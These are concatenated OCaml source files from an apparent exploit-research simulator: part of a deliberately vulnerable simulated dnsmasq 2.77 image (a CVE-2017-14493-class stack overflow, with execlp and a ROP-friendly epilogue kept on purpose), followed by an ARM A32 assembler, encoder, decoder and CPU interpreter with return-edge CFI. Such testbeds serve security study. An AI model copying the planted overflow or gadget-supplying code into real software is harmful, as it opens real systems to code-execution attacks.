      Asm.I (Mov_b (at EAX, Reg ECX));
      Asm.I (Inc_r EAX);
      Asm.I (Inc_r EDX);
      (* inline copy of the label body *)
      Asm.Label "en.copy";
      Asm.I (Cmp_i (Reg ECX, 0));
      Asm.Jcc (E, "en.copied");
      Asm.I (Inc_r ESI);
      Asm.I (Movzx_b (EDX, at ESI));
      Asm.I (Mov_b (at EAX, Reg EDX));
      Asm.I (Inc_r EAX);
      Asm.I (Dec_r ECX);
      Asm.Jmp "en.copy";
      Asm.Label "en.copied";
      (* nl = dest - name; cursor past the label *)
      Asm.I (Sub (Reg EAX, Reg EDI));
      Asm.I (Mov (at EBX, Reg EAX));
      Asm.I (Inc_r ESI);
      Asm.Jmp "en.loop";
      Asm.Label "en.pointer";
      Asm.I (Sub_i (Reg ECX, 0xC0));
      Asm.I (Shl_i (ECX, 8));
      Asm.I (Movzx_b (EDX, Mem { base = Some ESI; disp = 1 }));
      Asm.I (Add (Reg ECX, Reg EDX));
      Asm.I (Mov (Reg ESI, ebp_off 8));
      Asm.I (Add (Reg ESI, Reg ECX));
      Asm.Jmp "en.loop";
      Asm.Label "en.fail";
      Asm.I (Mov_ri (EAX, 0xFFFFFFFF));
      Asm.Jmp "en.ret";
      Asm.Label "en.done";
      Asm.I (Xor (Reg EAX, Reg EAX));
      Asm.Label "en.ret";
      Asm.I (Pop_r EDI);
      Asm.I (Pop_r ESI);
      Asm.I (Pop_r EBX);
      Asm.I (Pop_r EBP);
      Asm.I Ret;
    ]

let cache_insert =
  [
    Asm.Label "cache_insert";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_i 16);
    Asm.I (Push_m { base = Some EBP; disp = 8 });
    Asm.Mov_ri_sym (EAX, "__bss_start");
    Asm.I (Add_i (Reg EAX, 0x100));
    Asm.I (Push_r EAX);
    Asm.Call "memcpy@plt";
    Asm.I (Add_i (Reg ESP, 12));
    Asm.I (Pop_r EBP);
    Asm.I Ret;
  ]

(* dnsmasq's dhcp-script hook: keeps execlp@plt in the image. *)
let run_script =
  [
    Asm.Label "run_script";
    Asm.I (Push_i 0);
    Asm.Push_sym "str_script";
    Asm.Call "execlp@plt";
    Asm.I (Add_i (Reg ESP, 8));
    Asm.I Ret;
  ]

(* A conventional three-callee-saved epilogue: the pppr raw material. *)
let option_filter =
  [
    Asm.Label "option_filter";
    Asm.I (Push_r EBX);
    Asm.I (Push_r ESI);
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg EAX, Mem { base = Some ESP; disp = 16 }));
    Asm.I (Test_rr (EAX, EAX));
    Asm.I (Pop_r EDI);
    Asm.I (Pop_r ESI);
    Asm.I (Pop_r EBX);
    Asm.I Ret;
  ]

let rodata ~patched =
  [
    Asm.Align 4;
    Asm.Label "str_version";
    Asm.Bytes (Printf.sprintf "dnsmasq %s\x00" (if patched then "2.78" else "2.77"));
    Asm.Label "str_script";
    Asm.Bytes "/etc/dnsmasq/dhcp-script\x00";
    Asm.Label "str_conf";
    Asm.Bytes "/etc/dnsmasq.conf\x00";
    Asm.Label "str_bin";
    Asm.Bytes "/usr/sbin/dnsmasq\x00";
    Asm.Label "str_host";
    Asm.Bytes "localhost\x00";
  ]

let spec ~patched ~profile =
  let canary = profile.Defense.Profile.canary in
  let program =
    process_reply ~canary @ extract_name ~patched @ cache_insert @ run_script
    @ option_filter @ rodata ~patched
  in
  {
    Loader.Process.name = (if patched then "dnsmasq-2.78" else "dnsmasq-2.77");
    code = Loader.Process.X86_code program;
    imports = [ "memcpy"; "execlp"; "exit"; "abort"; "__stack_chk_fail" ];
    bss_size = 0x2000;
  }
