(** dnsmasq-sim for x86-32: a second DNS daemon with a CVE-2017-14493-class
    stack overflow, used to reproduce the paper's §V adaptability claim.

    Differences from the Connman image that exercise the "minimal
    modification" workflow: a 2048-byte buffer with different frame
    offsets, an {e inline} byte-copy loop instead of a [memcpy] call, no
    NULL-checked pointer slots, and a different (but sufficient) gadget
    inventory. *)

val spec : patched:bool -> profile:Defense.Profile.t -> Loader.Process.spec
val entry : string
(** ["process_reply"]. *)
