lib/isa_arm/asm.ml: Buffer Char Decode Encode Hashtbl Insn List Memsim Printf String
