lib/isa_arm/asm.mli: Insn Memsim
