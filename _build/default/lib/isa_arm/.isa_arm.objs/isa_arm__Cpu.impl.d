lib/isa_arm/cpu.ml: Array Decode Hashtbl Insn List Machine Memsim
