lib/isa_arm/cpu.ml: Array Decode Insn List Machine Memsim
