lib/isa_arm/cpu.mli: Insn Machine Memsim
