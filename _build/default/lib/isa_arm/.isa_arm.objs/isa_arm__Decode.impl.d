lib/isa_arm/decode.ml: Fun Insn List Memsim
