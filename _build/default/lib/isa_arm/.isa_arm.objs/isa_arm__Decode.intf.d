lib/isa_arm/decode.mli: Insn Memsim
