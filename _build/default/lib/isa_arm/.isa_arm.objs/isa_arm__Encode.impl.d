lib/isa_arm/encode.ml: Bytes Char Insn List Memsim Printf
