lib/isa_arm/encode.mli: Insn
