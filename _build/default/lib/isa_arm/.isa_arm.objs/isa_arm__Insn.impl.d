lib/isa_arm/insn.ml: Format List Printf String
