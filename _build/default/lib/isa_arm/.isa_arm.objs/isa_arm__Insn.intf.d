lib/isa_arm/insn.mli: Format
