type item =
  | Label of string
  | I of Insn.t
  | Bl_sym of string
  | B_sym of Insn.cond * string
  | Ldr_sym of Insn.reg * string
  | Bytes of string
  | Word of int
  | Word_sym of string
  | Align of int

type program = item list

type result = { base : int; code : string; symbols : (string * int) list }

let item_size pos = function
  | Label _ -> 0
  | I _ | Bl_sym _ | B_sym _ | Ldr_sym _ | Word _ | Word_sym _ -> 4
  | Bytes s -> String.length s
  | Align n ->
      if n <= 0 || n land (n - 1) <> 0 then
        failwith "Asm.Align: alignment must be a positive power of two";
      (n - (pos land (n - 1))) land (n - 1)

let assemble ?(extern = []) ~base program =
  if base land 3 <> 0 then failwith "Asm: base must be 4-byte aligned";
  let symbols = Hashtbl.create 16 in
  List.iter (fun (name, addr) -> Hashtbl.replace symbols name addr) extern;
  let define name addr =
    if Hashtbl.mem symbols name then failwith ("Asm: duplicate symbol " ^ name);
    Hashtbl.replace symbols name addr
  in
  ignore
    (List.fold_left
       (fun pos item ->
         (match item with Label name -> define name (base + pos) | _ -> ());
         pos + item_size pos item)
       0 program);
  let resolve name =
    match Hashtbl.find_opt symbols name with
    | Some a -> a
    | None -> failwith ("Asm: undefined symbol " ^ name)
  in
  let buf = Buffer.create 256 in
  let emit_insn i = Buffer.add_string buf (Encode.encode i) in
  let emit_word v =
    Buffer.add_char buf (Char.chr (v land 0xFF));
    Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
    Buffer.add_char buf (Char.chr ((v lsr 16) land 0xFF));
    Buffer.add_char buf (Char.chr ((v lsr 24) land 0xFF))
  in
  List.iter
    (fun item ->
      let here = base + Buffer.length buf in
      match item with
      | Label _ -> ()
      | I i -> emit_insn i
      | Bl_sym name ->
          emit_insn { Insn.cond = Insn.AL; op = Insn.Bl (resolve name - (here + 8)) }
      | B_sym (cond, name) ->
          emit_insn { Insn.cond; op = Insn.B (resolve name - (here + 8)) }
      | Ldr_sym (rd, name) ->
          let off = resolve name - (here + 8) in
          if abs off > 0xFFF then
            failwith
              (Printf.sprintf "Asm: literal %s out of ldr range (%d bytes)" name
                 off);
          emit_insn { Insn.cond = Insn.AL; op = Insn.Ldr (rd, Insn.PC, off) }
      | Bytes s -> Buffer.add_string buf s
      | Word v -> emit_word v
      | Word_sym name -> emit_word (resolve name)
      | Align n ->
          let pos = Buffer.length buf in
          let pad = (n - (pos land (n - 1))) land (n - 1) in
          for _ = 1 to pad do
            Buffer.add_char buf '\x00'
          done)
    program;
  let defined =
    Hashtbl.fold
      (fun name addr acc ->
        if List.mem_assoc name extern then acc else (name, addr) :: acc)
      symbols []
  in
  { base; code = Buffer.contents buf; symbols = List.sort compare defined }

let symbol result name = List.assoc name result.symbols

let disassemble mem ~base ~len =
  let rec go addr acc =
    if addr + 4 > base + len then List.rev acc
    else
      let acc =
        match Decode.decode_peek mem addr with
        | insn -> (addr, insn, Insn.to_string insn) :: acc
        | exception Decode.Error _ -> acc
        | exception Memsim.Memory.Fault _ -> acc
      in
      go (addr + 4) acc
  in
  go base []
