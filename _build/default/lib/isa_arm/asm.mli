(** Two-pass ARM A32 assembler with symbolic labels and literal pools.

    Large constants (absolute addresses) are materialised the way real ARM
    compilers do it: a pc-relative [ldr] from a nearby literal pool word
    ({!item.Ldr_sym} + {!item.Word_sym}). *)

type item =
  | Label of string
  | I of Insn.t
  | Bl_sym of string  (** [bl label] *)
  | B_sym of Insn.cond * string  (** [b<cond> label] *)
  | Ldr_sym of Insn.reg * string
      (** [ldr rd, \[pc, #off\]] where [off] reaches the given (literal)
          label; the label must be within ±4095 bytes of pc+8. *)
  | Bytes of string
  | Word of int
  | Word_sym of string
  | Align of int

type program = item list

type result = { base : int; code : string; symbols : (string * int) list }

val assemble : ?extern:(string * int) list -> base:int -> program -> result
(** [base] must be 4-byte aligned.  Raises [Failure] on undefined/duplicate
    symbols or out-of-range pc-relative loads. *)

val symbol : result -> string -> int

val disassemble :
  Memsim.Memory.t -> base:int -> len:int -> (int * Insn.t * string) list
(** Linear sweep at 4-byte stride; undecodable words are skipped (rendered
    only for decodable ones). *)
