open Insn
module Mem = Memsim.Memory
module Word = Memsim.Word
module Outcome = Machine.Outcome

type t = {
  mem : Mem.t;
  regs : int array;
  mutable n : bool;
  mutable z : bool;
  mutable c : bool;
  mutable v : bool;
  mutable shadow : int list;
  mutable cfi : bool;
  mutable steps : int;
}

let create ?(cfi = false) mem =
  {
    mem;
    regs = Array.make 16 0;
    n = false;
    z = false;
    c = false;
    v = false;
    shadow = [];
    cfi;
    steps = 0;
  }

let pc t = t.regs.(15)
let set_pc t v = t.regs.(15) <- Word.of_int v

let get t r =
  match r with PC -> Word.add (pc t) 8 | _ -> t.regs.(reg_index r)

let set t r v =
  t.regs.(reg_index r) <- Word.of_int v

let push t v =
  let sp = Word.sub (get t SP) 4 in
  set t SP sp;
  Mem.write_u32 t.mem sp v

let pop t =
  let sp = get t SP in
  let v = Mem.read_u32 t.mem sp in
  set t SP (Word.add sp 4);
  v

let op2_value t = function
  | Imm i -> Word.of_int i
  | Reg r -> get t r
  | Lsl (r, amt) -> Word.of_int (get t r lsl amt)

let cond_holds t = function
  | EQ -> t.z
  | NE -> not t.z
  | CS -> t.c
  | CC -> not t.c
  | MI -> t.n
  | PL -> not t.n
  | HI -> t.c && not t.z
  | LS -> (not t.c) || t.z
  | GE -> t.n = t.v
  | LT -> t.n <> t.v
  | GT -> (not t.z) && t.n = t.v
  | LE -> t.z || t.n <> t.v
  | AL -> true

let set_cmp_flags t a b =
  let res = Word.sub a b in
  t.n <- Word.bit res 31;
  t.z <- res = 0;
  t.c <- a >= b;  (* no borrow *)
  t.v <- Word.bit a 31 <> Word.bit b 31 && Word.bit res 31 <> Word.bit a 31

let set_tst_flags t res =
  t.n <- Word.bit res 31;
  t.z <- res = 0

type kernel = int -> t -> Outcome.syscall_result

(* Return-edge CFI (see cpu.mli).  [pop_shadow] both validates and pops. *)
let check_return t target =
  if not t.cfi then None
  else
    match t.shadow with
    | expected :: rest when expected = Word.of_int target ->
        t.shadow <- rest;
        None
    | expected :: _ ->
        Some (Outcome.Cfi_violation { at = pc t; expected; got = target })
    | [] -> Some (Outcome.Cfi_violation { at = pc t; expected = 0; got = target })

let step t ~kernel =
  let start = pc t in
  if start land 3 <> 0 then
    Some
      (Outcome.Fault
         { Mem.addr = start; kind = Mem.Perm_exec; context = "unaligned pc" })
  else
    match Decode.decode t.mem start with
    | exception Decode.Error { addr; word } ->
        Some (Outcome.Decode_error { addr; byte = word land 0xFF })
    | exception Mem.Fault f -> Some (Outcome.Fault f)
    | { cond; op } -> (
        t.steps <- t.steps + 1;
        let next = Word.add start 4 in
        if not (cond_holds t cond) then begin
          set_pc t next;
          None
        end
        else begin
          (* pc stays at the current instruction during execution so that
             architectural PC reads yield start+8; [branch] marks an
             explicit control transfer. *)
          let branched = ref false in
          let branch target =
            branched := true;
            set_pc t target
          in
          (* Data-processing writeback: writing PC is an indirect jump
             (`mov pc, lr` is a return and CFI-checked). *)
          let dp_write rd v =
            match rd with
            | PC -> (
                let target = Word.of_int v land lnot 1 in
                match op with
                | Mov (_, Reg LR) -> (
                    match check_return t target with
                    | Some stop -> Some stop
                    | None ->
                        branch target;
                        None)
                | _ ->
                    branch target;
                    None)
            | _ ->
                set t rd v;
                None
          in
          let stop =
            try
              match op with
            | Mov (rd, o) -> dp_write rd (op2_value t o)
            | Mvn (rd, o) -> dp_write rd (Word.lognot (op2_value t o))
            | Add (rd, rn, o) -> dp_write rd (Word.add (get t rn) (op2_value t o))
            | Sub (rd, rn, o) -> dp_write rd (Word.sub (get t rn) (op2_value t o))
            | Rsb (rd, rn, o) -> dp_write rd (Word.sub (op2_value t o) (get t rn))
            | And (rd, rn, o) -> dp_write rd (get t rn land op2_value t o)
            | Orr (rd, rn, o) -> dp_write rd (get t rn lor op2_value t o)
            | Eor (rd, rn, o) -> dp_write rd (get t rn lxor op2_value t o)
            | Bic (rd, rn, o) ->
                dp_write rd (get t rn land Word.lognot (op2_value t o))
            | Mul (rd, rm, rs) -> dp_write rd (Word.mul (get t rm) (get t rs))
            | Cmp (rn, o) ->
                set_cmp_flags t (get t rn) (op2_value t o);
                None
            | Tst (rn, o) ->
                set_tst_flags t (get t rn land op2_value t o);
                None
            | Ldr (rd, rn, off) ->
                let v = Mem.read_u32 t.mem (Word.add (get t rn) off) in
                dp_write rd v
            | Str (rd, rn, off) ->
                Mem.write_u32 t.mem (Word.add (get t rn) off) (get t rd);
                None
            | Ldrb (rd, rn, off) ->
                let v = Mem.read_u8 t.mem (Word.add (get t rn) off) in
                dp_write rd v
            | Strb (rd, rn, off) ->
                Mem.write_u8 t.mem (Word.add (get t rn) off) (get t rd land 0xFF);
                None
            | Ldr_r (rd, rn, rm) ->
                dp_write rd (Mem.read_u32 t.mem (Word.add (get t rn) (get t rm)))
            | Str_r (rd, rn, rm) ->
                Mem.write_u32 t.mem (Word.add (get t rn) (get t rm)) (get t rd);
                None
            | Ldrb_r (rd, rn, rm) ->
                dp_write rd (Mem.read_u8 t.mem (Word.add (get t rn) (get t rm)))
            | Strb_r (rd, rn, rm) ->
                Mem.write_u8 t.mem
                  (Word.add (get t rn) (get t rm))
                  (get t rd land 0xFF);
                None
            | Push regs ->
                let n = List.length regs in
                let base = Word.sub (get t SP) (4 * n) in
                List.iteri
                  (fun i r -> Mem.write_u32 t.mem (Word.add base (4 * i)) (get t r))
                  regs;
                set t SP base;
                None
            | Pop regs -> (
                let sp0 = get t SP in
                let values =
                  List.mapi
                    (fun i _ -> Mem.read_u32 t.mem (Word.add sp0 (4 * i)))
                    regs
                in
                set t SP (Word.add sp0 (4 * List.length regs));
                let pc_target = ref None in
                List.iter2
                  (fun r v -> if r = PC then pc_target := Some v else set t r v)
                  regs values;
                match !pc_target with
                | None -> None
                | Some target -> (
                    let target = target land lnot 1 in
                    match check_return t target with
                    | Some stop -> Some stop
                    | None ->
                        branch target;
                        None))
            | B d ->
                branch (Word.add (Word.add start 8) d);
                None
            | Bl d ->
                let ret = next in
                set t LR ret;
                if t.cfi then t.shadow <- ret :: t.shadow;
                branch (Word.add (Word.add start 8) d);
                None
            | Bx r -> (
                let target = get t r land lnot 1 in
                if r = LR then
                  match check_return t target with
                  | Some stop -> Some stop
                  | None ->
                      branch target;
                      None
                else begin
                  branch target;
                  None
                end)
            | Blx_r r ->
                let target = get t r land lnot 1 in
                let ret = next in
                set t LR ret;
                if t.cfi then t.shadow <- ret :: t.shadow;
                branch target;
                None
            | Svc n -> (
                match kernel n t with
                | Outcome.Resume -> None
                | Outcome.Stop reason -> Some reason)
            with Mem.Fault f -> Some (Outcome.Fault f)
          in
          (match stop with
          | None -> if not !branched then set_pc t next
          | Some _ -> ());
          stop
        end)

let run ?(fuel = 2_000_000) ~traps ~kernel t =
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem (pc t) traps then Outcome.Halted
    else
      match step t ~kernel with
      | Some reason -> reason
      | None -> loop (budget - 1)
  in
  loop fuel
