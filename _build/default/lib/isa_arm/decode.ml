open Insn
module Word = Memsim.Word

exception Error of { addr : int; word : int }

let decode_word ~addr w =
  let bad () = raise (Error { addr; word = w }) in
  let cond = match cond_of_code (w lsr 28) with Some c -> c | None -> bad () in
  let rn = (w lsr 16) land 0xF
  and rd = (w lsr 12) land 0xF
  and rm = w land 0xF in
  let mk op = { cond; op } in
  let op2_of_bits ~imm =
    if imm then
      let rot = (w lsr 8) land 0xF and imm8 = w land 0xFF in
      Imm (Word.ror imm8 (2 * rot))
    else begin
      (* Register form: plain (bits 11-4 zero) or lsl-by-immediate
         (shift type 00, bit 4 clear). *)
      let shift_bits = (w lsr 4) land 0xFF in
      if shift_bits = 0 then Reg (reg_of_index rm)
      else if shift_bits land 0x7 = 0 then Lsl (reg_of_index rm, shift_bits lsr 3)
      else bad ()
    end
  in
  let dp ~imm =
    let opcode = (w lsr 21) land 0xF and s = (w lsr 20) land 1 in
    let o = op2_of_bits ~imm in
    let rd_r = reg_of_index rd and rn_r = reg_of_index rn in
    match (opcode, s) with
    | 0b1101, 0 -> if rn <> 0 then bad () else mk (Mov (rd_r, o))
    | 0b1111, 0 -> if rn <> 0 then bad () else mk (Mvn (rd_r, o))
    | 0b0100, 0 -> mk (Add (rd_r, rn_r, o))
    | 0b0010, 0 -> mk (Sub (rd_r, rn_r, o))
    | 0b0011, 0 -> mk (Rsb (rd_r, rn_r, o))
    | 0b0000, 0 -> mk (And (rd_r, rn_r, o))
    | 0b1100, 0 -> mk (Orr (rd_r, rn_r, o))
    | 0b0001, 0 -> mk (Eor (rd_r, rn_r, o))
    | 0b1110, 0 -> mk (Bic (rd_r, rn_r, o))
    | 0b1010, 1 -> if rd <> 0 then bad () else mk (Cmp (rn_r, o))
    | 0b1000, 1 -> if rd <> 0 then bad () else mk (Tst (rn_r, o))
    | _ -> bad ()
  in
  match (w lsr 25) land 0x7 with
  | 0b000 ->
      (* bx / blx register forms and the multiply family live here. *)
      if w land 0x0FFF_FFF0 = 0x012F_FF10 then mk (Bx (reg_of_index rm))
      else if w land 0x0FFF_FFF0 = 0x012F_FF30 then mk (Blx_r (reg_of_index rm))
      else if w land 0x0FF0_00F0 = 0x0000_0090 then
        (* mul: bits 27-20 zero (S=0 subset), bits 7-4 = 1001 *)
        mk (Mul (reg_of_index rn, reg_of_index rm, reg_of_index ((w lsr 8) land 0xF)))
      else dp ~imm:false
  | 0b001 -> dp ~imm:true
  | 0b010 ->
      (* Load/store with immediate offset; subset requires P=1, W=0. *)
      let p = (w lsr 24) land 1
      and u = (w lsr 23) land 1
      and b = (w lsr 22) land 1
      and wb = (w lsr 21) land 1
      and l = (w lsr 20) land 1 in
      if p <> 1 || wb <> 0 then bad ();
      let off = w land 0xFFF in
      let off = if u = 1 then off else -off in
      let rd_r = reg_of_index rd and rn_r = reg_of_index rn in
      mk
        (match (l, b) with
        | 1, 0 -> Ldr (rd_r, rn_r, off)
        | 0, 0 -> Str (rd_r, rn_r, off)
        | 1, 1 -> Ldrb (rd_r, rn_r, off)
        | 0, 1 -> Strb (rd_r, rn_r, off)
        | _ -> assert false)
  | 0b100 ->
      (* Only the push/pop idioms (stmdb sp! / ldmia sp!) are in the
         subset. *)
      let bits = (w lsr 20) land 0x1F in
      if rn <> 13 then bad ();
      let regs =
        List.filter_map
          (fun i -> if (w lsr i) land 1 = 1 then Some (reg_of_index i) else None)
          (List.init 16 Fun.id)
      in
      if regs = [] then bad ();
      if bits = 0b10010 then mk (Push regs)
      else if bits = 0b01011 then mk (Pop regs)
      else bad ()
  | 0b011 ->
      (* Register-offset load/store; subset: P=1 U=1 W=0, no shift. *)
      if (w lsr 4) land 0xFF <> 0 then bad ();
      let p = (w lsr 24) land 1
      and u = (w lsr 23) land 1
      and b = (w lsr 22) land 1
      and wb = (w lsr 21) land 1
      and l = (w lsr 20) land 1 in
      if p <> 1 || u <> 1 || wb <> 0 then bad ();
      let rd_r = reg_of_index rd
      and rn_r = reg_of_index rn
      and rm_r = reg_of_index rm in
      mk
        (match (l, b) with
        | 1, 0 -> Ldr_r (rd_r, rn_r, rm_r)
        | 0, 0 -> Str_r (rd_r, rn_r, rm_r)
        | 1, 1 -> Ldrb_r (rd_r, rn_r, rm_r)
        | 0, 1 -> Strb_r (rd_r, rn_r, rm_r)
        | _ -> assert false)
  | 0b101 ->
      let l = (w lsr 24) land 1 in
      let imm24 = w land 0xFF_FFFF in
      let d = if imm24 land 0x80_0000 <> 0 then imm24 - 0x100_0000 else imm24 in
      let d = d * 4 in
      mk (if l = 1 then Bl d else B d)
  | 0b111 -> if (w lsr 24) land 1 = 1 then mk (Svc (w land 0xFF_FFFF)) else bad ()
  | _ -> bad ()

let decode mem addr = decode_word ~addr (Memsim.Memory.fetch_u32 mem addr)
let decode_peek mem addr = decode_word ~addr (Memsim.Memory.read_u32 mem addr)
