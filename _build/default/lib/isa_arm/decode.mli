(** ARM A32 instruction decoding (inverse of {!Encode} on the subset).

    As on x86, the interpreter fetch-decodes through this module and the
    gadget finder sweeps executable segments with it — ARM gadgets are the
    4-byte-aligned words that decode to useful `pop {…, pc}` / `blx rN`
    tails, mirroring what [ropper] reports on a real binary. *)

exception Error of { addr : int; word : int }

val decode_word : addr:int -> int -> Insn.t
(** Decode one 32-bit instruction word.  Raises {!Error} for words outside
    the subset (SIGILL analogue).  [addr] is only used for error reports. *)

val decode : Memsim.Memory.t -> int -> Insn.t
(** Fetch-decode (honours execute permission; raises [Memsim.Memory.Fault]
    on NX pages). *)

val decode_peek : Memsim.Memory.t -> int -> Insn.t
(** Permission-blind decode for offline analysis. *)
