open Insn
module Word = Memsim.Word

let encode_imm v =
  let v = Word.of_int v in
  let rec try_rot rot =
    if rot > 15 then None
    else
      (* value = ror(imm8, 2*rot)  ⇔  imm8 = rol(value, 2*rot) *)
      let imm8 = Word.ror v (32 - (2 * rot)) in
      if imm8 land 0xFF = imm8 then Some (rot, imm8) else try_rot (rot + 1)
  in
  try_rot 0

let imm_encodable v = encode_imm v <> None

let op2_bits = function
  | Reg r -> (0, reg_index r)  (* I=0, no shift *)
  | Lsl (r, amt) ->
      if amt < 1 || amt > 31 then invalid_arg "arm encode: lsl amount out of range";
      (0, (amt lsl 7) lor reg_index r)
  | Imm v -> (
      match encode_imm v with
      | Some (rot, imm8) -> (1, (rot lsl 8) lor imm8)
      | None ->
          invalid_arg
            (Printf.sprintf "arm encode: immediate %s not encodable"
               (Word.to_hex v)))

(* Data-processing: cond | 00 | I | opcode | S | Rn | Rd | op2 *)
let dp cond ~opcode ~s ~rn ~rd op2 =
  let i, bits = op2_bits op2 in
  (cond_code cond lsl 28)
  lor (i lsl 25)
  lor (opcode lsl 21)
  lor (s lsl 20)
  lor (rn lsl 16)
  lor (rd lsl 12)
  lor bits

(* Load/store word or byte: cond | 01 | I=0 | P U B W L | Rn | Rd | imm12 *)
let ldst cond ~byte ~load ~rn ~rd off =
  if abs off > 0xFFF then invalid_arg "arm encode: ldr/str offset out of range";
  let u = if off >= 0 then 1 else 0 in
  (cond_code cond lsl 28)
  lor (0b01 lsl 26)
  lor (1 lsl 24)  (* P: pre-indexed *)
  lor (u lsl 23)
  lor ((if byte then 1 else 0) lsl 22)
  lor ((if load then 1 else 0) lsl 20)
  lor (rn lsl 16)
  lor (rd lsl 12)
  lor abs off

(* Register-offset load/store: cond | 011 | P=1 U=1 B W=0 L | Rn Rd | 0...0 Rm *)
let ldst_reg cond ~byte ~load rd rn rm =
  (cond_code cond lsl 28)
  lor (0b011 lsl 25)
  lor (1 lsl 24)
  lor (1 lsl 23)
  lor ((if byte then 1 else 0) lsl 22)
  lor ((if load then 1 else 0) lsl 20)
  lor (reg_index rn lsl 16)
  lor (reg_index rd lsl 12)
  lor reg_index rm

let reglist_bits regs =
  if regs = [] then invalid_arg "arm encode: empty register list";
  let rec check = function
    | a :: (b :: _ as rest) ->
        if reg_index a >= reg_index b then
          invalid_arg "arm encode: register list must be strictly ascending";
        check rest
    | [ _ ] | [] -> ()
  in
  check regs;
  List.fold_left (fun acc r -> acc lor (1 lsl reg_index r)) 0 regs

let encode_word { cond; op } =
  let c = cond_code cond lsl 28 in
  match op with
  | Mov (rd, o) -> dp cond ~opcode:0b1101 ~s:0 ~rn:0 ~rd:(reg_index rd) o
  | Mvn (rd, o) -> dp cond ~opcode:0b1111 ~s:0 ~rn:0 ~rd:(reg_index rd) o
  | Add (rd, rn, o) ->
      dp cond ~opcode:0b0100 ~s:0 ~rn:(reg_index rn) ~rd:(reg_index rd) o
  | Sub (rd, rn, o) ->
      dp cond ~opcode:0b0010 ~s:0 ~rn:(reg_index rn) ~rd:(reg_index rd) o
  | Rsb (rd, rn, o) ->
      dp cond ~opcode:0b0011 ~s:0 ~rn:(reg_index rn) ~rd:(reg_index rd) o
  | And (rd, rn, o) ->
      dp cond ~opcode:0b0000 ~s:0 ~rn:(reg_index rn) ~rd:(reg_index rd) o
  | Orr (rd, rn, o) ->
      dp cond ~opcode:0b1100 ~s:0 ~rn:(reg_index rn) ~rd:(reg_index rd) o
  | Eor (rd, rn, o) ->
      dp cond ~opcode:0b0001 ~s:0 ~rn:(reg_index rn) ~rd:(reg_index rd) o
  | Bic (rd, rn, o) ->
      dp cond ~opcode:0b1110 ~s:0 ~rn:(reg_index rn) ~rd:(reg_index rd) o
  | Mul (rd, rm, rs) ->
      (* cond 0000000 S rd 0000 rs 1001 rm *)
      (cond_code cond lsl 28)
      lor (reg_index rd lsl 16)
      lor (reg_index rs lsl 8)
      lor (0b1001 lsl 4)
      lor reg_index rm
  | Cmp (rn, o) -> dp cond ~opcode:0b1010 ~s:1 ~rn:(reg_index rn) ~rd:0 o
  | Tst (rn, o) -> dp cond ~opcode:0b1000 ~s:1 ~rn:(reg_index rn) ~rd:0 o
  | Ldr (rd, rn, off) ->
      ldst cond ~byte:false ~load:true ~rn:(reg_index rn) ~rd:(reg_index rd) off
  | Str (rd, rn, off) ->
      ldst cond ~byte:false ~load:false ~rn:(reg_index rn) ~rd:(reg_index rd) off
  | Ldrb (rd, rn, off) ->
      ldst cond ~byte:true ~load:true ~rn:(reg_index rn) ~rd:(reg_index rd) off
  | Strb (rd, rn, off) ->
      ldst cond ~byte:true ~load:false ~rn:(reg_index rn) ~rd:(reg_index rd) off
  | Ldr_r (rd, rn, rm) -> ldst_reg cond ~byte:false ~load:true rd rn rm
  | Str_r (rd, rn, rm) -> ldst_reg cond ~byte:false ~load:false rd rn rm
  | Ldrb_r (rd, rn, rm) -> ldst_reg cond ~byte:true ~load:true rd rn rm
  | Strb_r (rd, rn, rm) -> ldst_reg cond ~byte:true ~load:false rd rn rm
  | Push regs ->
      (* stmdb sp!, {…}: P=1 U=0 S=0 W=1 L=0, Rn=sp *)
      c lor (0b100 lsl 25) lor (0b10010 lsl 20) lor (13 lsl 16) lor reglist_bits regs
  | Pop regs ->
      (* ldmia sp!, {…}: P=0 U=1 S=0 W=1 L=1, Rn=sp *)
      c lor (0b100 lsl 25) lor (0b01011 lsl 20) lor (13 lsl 16) lor reglist_bits regs
  | B d | Bl d ->
      if d land 3 <> 0 then invalid_arg "arm encode: branch offset not word-aligned";
      let words = Word.to_signed (Word.of_int d) asr 2 in
      if words < -0x800000 || words > 0x7FFFFF then
        invalid_arg "arm encode: branch out of range";
      let l = match op with Bl _ -> 1 | _ -> 0 in
      c lor (0b101 lsl 25) lor (l lsl 24) lor (words land 0xFFFFFF)
  | Bx r -> c lor 0x012FFF10 lor reg_index r
  | Blx_r r -> c lor 0x012FFF30 lor reg_index r
  | Svc n ->
      if n < 0 || n > 0xFFFFFF then invalid_arg "arm encode: svc out of range";
      c lor (0b1111 lsl 24) lor n

let encode insn =
  let w = encode_word insn in
  let b = Bytes.create 4 in
  Bytes.set b 0 (Char.chr (w land 0xFF));
  Bytes.set b 1 (Char.chr ((w lsr 8) land 0xFF));
  Bytes.set b 2 (Char.chr ((w lsr 16) land 0xFF));
  Bytes.set b 3 (Char.chr ((w lsr 24) land 0xFF));
  Bytes.to_string b
