(** ARM A32 binary encoding of the {!Insn} subset (genuine encodings). *)

val encode_imm : int -> (int * int) option
(** [encode_imm v] finds [(rot, imm8)] with [v = ror imm8 (2*rot)], the A32
    modified-immediate encoding, or [None] if [v] is not encodable. *)

val imm_encodable : int -> bool

val encode_word : Insn.t -> int
(** The 32-bit instruction word.  Raises [Invalid_argument] for
    non-encodable immediates or malformed register lists. *)

val encode : Insn.t -> string
(** Little-endian byte rendering of {!encode_word} (4 bytes). *)
