(* ARMv7 A32 instruction subset with genuine encodings (see encode.ml).
   Chosen to cover the paper's ARM-side requirements: register-passed
   arguments (r0-r3), the link register, `pop {…, pc}` function returns and
   gadgets, `blx rN` trampolines, `svc` system calls, and the 4-byte
   `mov r1, r1` NOP used for ARM sleds (§III-A2). *)

type reg =
  | R0
  | R1
  | R2
  | R3
  | R4
  | R5
  | R6
  | R7
  | R8
  | R9
  | R10
  | R11  (* fp *)
  | R12  (* ip *)
  | SP
  | LR
  | PC

let reg_index = function
  | R0 -> 0
  | R1 -> 1
  | R2 -> 2
  | R3 -> 3
  | R4 -> 4
  | R5 -> 5
  | R6 -> 6
  | R7 -> 7
  | R8 -> 8
  | R9 -> 9
  | R10 -> 10
  | R11 -> 11
  | R12 -> 12
  | SP -> 13
  | LR -> 14
  | PC -> 15

let reg_of_index = function
  | 0 -> R0
  | 1 -> R1
  | 2 -> R2
  | 3 -> R3
  | 4 -> R4
  | 5 -> R5
